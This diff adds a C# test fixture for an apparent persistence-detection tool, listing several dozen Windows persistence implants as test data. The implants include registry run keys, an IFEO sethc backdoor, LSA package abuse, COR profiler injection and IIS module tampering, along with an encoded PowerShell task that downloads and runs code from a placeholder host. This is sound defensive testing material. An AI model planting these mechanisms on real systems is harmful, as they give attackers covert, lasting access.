@@ -1,0 +1,64 @@
+namespace Afterpatch.Cli.Tests.Persistence;
+
+/// <summary>What intruders plant, each with a word that only it has.</summary>
+internal static class PlantedCases
+{
+    private const string Nt = @"Microsoft\Windows NT\CurrentVersion";
+    private const string Windows = @"Microsoft\Windows\CurrentVersion";
+    private const string Net = @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319";
+
+    public static IReadOnlyList<(string Token, Action<PlantedEvidence> Plant)> All { get; } =
+    [
+        ("wnetsvc1", one => one.Service("wnetsvc1", @"C:\Windows\system32\cmd.exe /c start /b C:\Windows\Temp\wn.exe")),
+        ("fontdrv7.dll", one => one.Service("FontDrvHlp", @"%SystemRoot%\system32\svchost.exe -k netsvcs", @"C:\Windows\Fonts\fontdrv7.dll")),
+        ("drv64q.sys", one => one.Service("drv64q", @"\??\C:\Windows\Temp\drv64q.sys", type: 1)),
+        ("rmtsvc3", one => one.Service("rmtsvc3", @"\\10.20.30.40\c$\tools\a.exe")),
+        ("MSExchangeHM2", one => one.Service("MSExchangeHM2", @"C:\Users\Public\Documents\MSExchangeHMHost.exe")),
+        ("pwdflt9", one => one.Systems(@"Control\Lsa", "Notification Packages", "scecli", "pwdflt9")),
+        ("mimilib", one => one.Systems(@"Control\Lsa", "Security Packages", "kerberos", "msv1_0", "mimilib")),
+        ("pm55.dll", one => one.System(@"Control\Print\Monitors\Shared Port", "Driver", @"C:\ProgramData\pm55.dll")),
+        ("appcert6.dll", one => one.System(@"Control\Session Manager\AppCertDlls", "a", @"C:\Windows\Temp\appcert6.dll")),
+        ("prof77.dll", one =>
+        {
+            one.Service("W3SVC", @"%windir%\system32\svchost.exe -k iissvcs", @"%windir%\system32\inetsrv\iisw3adm.dll");
+            one.Systems(@"Services\W3SVC", "Environment", "COR_ENABLE_PROFILING=1", @"COR_PROFILER_PATH=C:\ProgramData\prof77.dll");
+        }),
+        ("bootx8", one => one.Systems(@"Control\Session Manager", "BootExecute", "autocheck autochk *", "bootx8")),
+        ("runmshta1", one => one.Software($@"{Windows}\Run", "runmshta1", @"mshta vbscript:CreateObject(""WScript.Shell"").Run(""powershell -ep bypass C:\Users\Public\a.ps1"",0)(window.close)")),
+        ("sethc.exe", one => one.Software($@"{Nt}\Image File Execution Options\sethc.exe", "Debugger", @"C:\Windows\System32\cmd.exe")),
+        ("updspool.exe", one => one.Software($@"{Nt}\Winlogon", "Userinit", @"C:\Windows\system32\userinit.exe,C:\Windows\System32\spool\updspool.exe")),
+        ("monproc4.exe", one => one.Software($@"{Nt}\SilentProcessExit\notepad.exe", "MonitorProcess", @"C:\Users\Public\monproc4.exe")),
+        ("ainit5.dll", one => one.Software($@"{Nt}\Windows", "AppInit_DLLs", @"C:\ProgramData\ainit5.dll")),
+        ("nethlp2.dll", one => one.Software(@"Microsoft\NetSh", "nethlp2", @"C:\ProgramData\nethlp2.dll")),
+        ("autorun3.bat", one => one.Software(@"Microsoft\Command Processor", "AutoRun", @"C:\Windows\Temp\autorun3.bat")),
+        ("setup99.dll", one => one.Software(@"Microsoft\Active Setup\Installed Components\{11111111-2222-3333-4444-555555555555}", "StubPath", @"rundll32 C:\Users\Public\setup99.dll,X")),
+        ("comsrv8.dll", one => one.Software(@"Classes\CLSID\{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}\InprocServer32", "", @"C:\ProgramData\comsrv8.dll")),
+        ("credprov1.dll", one =>
+        {
+            one.Software($@"{Windows}\Authentication\Credential Providers\{{9F1A2B3C-0000-4000-8000-0123456789AB}}", "", "Helper");
+            one.Software(@"Classes\CLSID\{9F1A2B3C-0000-4000-8000-0123456789AB}\InprocServer32", "", @"C:\Windows\Temp\credprov1.dll");
+        }),
+        ("officetest.dll", one => one.User(@"Software\Microsoft\Office test\Special\Perf", "", @"C:\Users\Public\officetest.dll")),
+        ("hkcurun2", one => one.User(@"Software\Microsoft\Windows\CurrentVersion\Run", "hkcurun2", @"C:\Users\admin\AppData\Roaming\svchost.exe")),
+        ("logonscr.bat", one => one.User("Environment", "UserInitMprLogonScript", @"C:\Users\Public\logonscr.bat")),
+        ("inboxpage", one => one.User(@"Software\Microsoft\Office\16.0\Outlook\WebView\Inbox", "URL", "http://203.0.113.80/inboxpage.html")),
+        ("taskjs", one => one.Task(@"\taskjs", "rundll32.exe", @"javascript:""\..\mshtml,RunHTMLApplication "";eval(1)")),
+        ("headless9", one => one.Task(@"\Contoso\headless9", @"C:\Windows\System32\conhost.exe", @"--headless powershell -f C:\Users\Public\headless9.ps1")),
+        ("forf1", one => one.Task(@"\forf1", "forfiles.exe", @"/p c:\windows\system32 /m notepad.exe /c ""C:\PerfLogs\n.exe""")),
+        ("build44.xml", one => one.Task(@"\Microsoft\Windows\NetTrace\Build", $@"{Net}\MSBuild.exe", @"C:\ProgramData\build44.xml")),
+        ("inst6.dll", one => one.Task(@"\inst6", $@"{Net}\InstallUtil.exe", @"/logfile= /LogToConsole=false /U C:\Windows\Tasks\inst6.dll")),
+        ("compr3.exe", one => one.Task(@"\IISCompress", @"C:\inetpub\temp\IIS Temporary Compressed Files\compr3.exe")),
+        ("execute7", one => one.ServiceInstalled("execute7", @"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute7.bat & %COMSPEC% /Q /c %TEMP%\execute7.bat")),
+        ("encTask", one => one.TaskRegistered(@"\encTask", "powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAnACkA")),
+        ("cachehttp2", one => one.Module("HttpCache2", @"%windir%\System32\inetsrv\cachehttp2.dll")),
+        ("colordir", one => one.Directory("/colordir", @"C:\Windows\Temp\colordir")),
+        ("poolcfg", one => one.Pool("poolcfg", @"CLRConfigFile=""C:\ProgramData\poolcfg.config""")),
+        ("agent12", one => one.Agent("Journaling Helper agent12", @"C:\ProgramData\agent12.dll")),
+        ("AuthModule3", one => one.File(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\web.config", @"<?xml version=""1.0""?><configuration><system.webServer><modules><add name=""Auth"" type=""Contoso.Auth.AuthModule3, AuthModule3"" /></modules></system.webServer></configuration>")),
+        ("txtpage", one => one.File(@"C:\inetpub\wwwroot\aspnet_client\web.config", @"<?xml version=""1.0""?><configuration><system.webServer><handlers><add name=""txtpage"" path=""*.txt"" verb=""*"" type=""System.Web.UI.PageHandlerFactory"" /></handlers></system.webServer></configuration>")),
+        ("startup2.bat", one => one.File(@"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\startup2.bat", "@echo off\r\nstart /b C:\\Users\\Public\\w.exe\r\n")),
+        ("startup3.exe", one => one.File(@"C:\Users\admin\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\startup3.exe", "MZ\0\0 startup3")),
+        ("gpstart.bat", one => one.File(@"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini", "[Startup]\r\n0CmdLine=C:\\Windows\\Temp\\gpstart.bat\r\n0Parameters=\r\n")),
+        ("profile.ps1", one => one.File(@"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "& C:\\Users\\Public\\p.exe\r\n")),
+    ];
+}
